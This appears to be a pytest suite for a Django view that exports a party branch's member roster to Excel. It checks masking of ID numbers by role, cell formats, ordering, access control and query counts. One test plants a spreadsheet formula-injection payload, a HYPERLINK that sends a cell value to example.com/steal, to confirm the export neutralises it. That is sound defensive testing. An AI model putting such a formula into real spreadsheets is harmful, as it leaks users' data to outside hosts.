"""Exporting a branch roster to Excel, through the view."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from .conftest import make_member

pytestmark = pytest.mark.django_db

HEADERS = [
    "序号",
    "姓名",
    "性别",
    "身份证号",
    "联系电话",
    "入党日期",
    "类别",
    "党籍状态",
    "挂牌",
    "积分卡号",
    "备注",
]


def export(client, branch):
    response = client.get(reverse("roster_export", args=[branch.pk]))
    assert response.status_code == 200
    return response, load_workbook(io.BytesIO(response.content)).active


def rows_by_name(sheet) -> dict[str, dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


def test_secretary_gets_the_roster_with_masked_id_numbers_and_phones_as_text(county):
    make_member(county.branch, "刘桂花", gender="F", phone="13903581234", category="C")
    response, sheet = export(county.client("secretary"), county.branch)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert response["Cache-Control"] == "private, no-store"
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet.freeze_panes == "A2"
    rows = rows_by_name(sheet)
    liu = rows["刘桂花"]
    number = county.member.id_number
    assert rows["王建国"]["身份证号"] == f"{number[:6]}********{number[-4:]}"
    assert liu["联系电话"] == "13903581234" and liu["类别"] == "C类" and liu["性别"] == "女"
    assert liu["党籍状态"] == "在册" and liu["挂牌"] == "是"
    assert liu["入党日期"] == datetime.datetime(1995, 7, 1)
    names = [row[1].value for row in sheet.iter_rows()]
    phone_cell = sheet.cell(row=names.index("刘桂花") + 1, column=5)
    assert phone_cell.data_type == "s" and phone_cell.number_format == "@"
    assert not any(number in str(cell) for row in sheet.iter_rows(values_only=True) for cell in row)
    assert county.member_y.name not in rows  # only this branch


def test_county_gets_full_id_numbers_as_text(county):
    _response, sheet = export(county.client("county"), county.branch)
    row = rows_by_name(sheet)["王建国"]
    assert row["身份证号"] == county.member.id_number
    assert sheet["D2"].data_type == "s" and sheet["D2"].number_format == "@"


def test_members_who_left_come_after_those_on_the_roll(county):
    make_member(county.branch, "艾青")
    county.member.status, county.member.status_date = "deceased", datetime.date(2026, 3, 1)
    county.member.save()
    _response, sheet = export(county.client("secretary"), county.branch)
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["艾青", "王建国"]
    assert sheet["H3"].value == "去世" and sheet["A3"].value == 2


def test_a_formula_looking_note_comes_back_neutralised(county):
    note = '=HYPERLINK("http://example.com/steal?x="&A1,"点击查看")'
    make_member(county.branch, "钱多", notes=note)
    _response, sheet = export(county.client("secretary"), county.branch)
    cells = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "钱多")
    assert cells[10].value == "'" + note and cells[10].data_type == "s"


@pytest.mark.parametrize("persona", ["assessor", "township", "county"])
def test_anyone_who_sees_the_branch_may_export(county, persona):
    export(county.client(persona), county.branch)


@pytest.mark.parametrize("persona", ["secretary_y", "township_2"])
def test_others_get_404(county, persona):
    url = reverse("roster_export", args=[county.branch.pk])
    assert county.client(persona).get(url).status_code == 404


def test_export_costs_the_same_queries_for_5_or_60_members(county, django_assert_max_num_queries):
    client = county.client("secretary")
    url = reverse("roster_export", args=[county.branch.pk])
    for i in range(4):
        make_member(county.branch, f"成员{i}")
    # session, user, official, branch (with township), members with their current category
    with django_assert_max_num_queries(5):
        assert client.get(url).status_code == 200
    for i in range(55):
        make_member(county.branch, f"队员{i}")
    with django_assert_max_num_queries(5):
        response = client.get(url)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 61
